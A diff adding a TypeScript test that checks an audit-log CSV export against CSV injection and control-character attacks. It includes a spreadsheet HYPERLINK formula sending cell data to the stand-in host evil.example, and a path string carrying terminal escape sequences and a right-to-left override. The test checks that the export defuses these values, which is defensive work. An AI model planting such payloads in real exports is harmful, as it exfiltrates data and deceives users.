@@ -210,3 +210,63 @@ for (const h of engines()) {
     });
   });
 }
+
+describe('audit export of hostile values (CSV injection, control characters)', () => {
+  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"ok")';
+  const escPath = 'acme/\u001b]0;pwned\u0007ledger\u202e';
+  const h = engines()[0]!;
+  let t: TestDb;
+  let store: Store;
+  beforeAll(() => h.setup());
+  afterAll(() => h.teardown());
+  beforeEach(async () => {
+    t = await h.fresh();
+    store = await t.open({ clock: testClock().now });
+  });
+  afterEach(() => t.dispose());
+
+  it("defuses formula leaders with ' in a quoted cell, escapes controls, and the data column still verifies", async () => {
+    const hostile = {
+      ...principal,
+      project: escPath,
+      ref: formula,
+      pipeline: '+1',
+      job: '@SUM(A1)',
+      job_url: '-2',
+    };
+    const s = newSession({ targets: ['staging-db'] });
+    await store.createSession(record(s), opened);
+    await store.appendAudit(
+      auditEvent('connection.opened', {
+        session: s.id,
+        connection: 'c1',
+        principal: hostile,
+        target: 'staging-db',
+        rule: 'ledger-main-to-staging',
+        exit: 'gateway',
+      }),
+    );
+    const { text } = await exportToString(store, { format: 'csv' });
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw control character in the file
+    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`);
+    const [, , row] = parseCsv(text) as [string[], string[], string[]];
+    const col = (name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
+    expect(col('ref')).toBe(`'${formula}`);
+    expect(col('project')).toBe('acme/\\x1b]0;pwned\\x07ledger\\u202e');
+    expect([col('pipeline'), col('job'), col('job_url')]).toEqual(["'+1", "'@SUM(A1)", "'-2"]);
+    // The data column keeps the exact values (as JSON escapes), so the export still verifies.
+    expect(JSON.parse(col('data')!).principal).toMatchObject({ project: escPath, ref: formula });
+    const rows = parseCsv(text)
+      .slice(1)
+      .map((r) => ({
+        seq: Number(r[0]),
+        time: Date.parse(r[1]!),
+        type: r[2]!,
+        data: r[CSV_COLUMNS.indexOf('data')]!,
+        hash: r[CSV_COLUMNS.indexOf('hash')]!,
+        prevHash: r[CSV_COLUMNS.indexOf('prev_hash')]!,
+      }));
+    expect(await verifyRows(rows)).toMatchObject({ ok: true, count: 2 });
+  });
+});
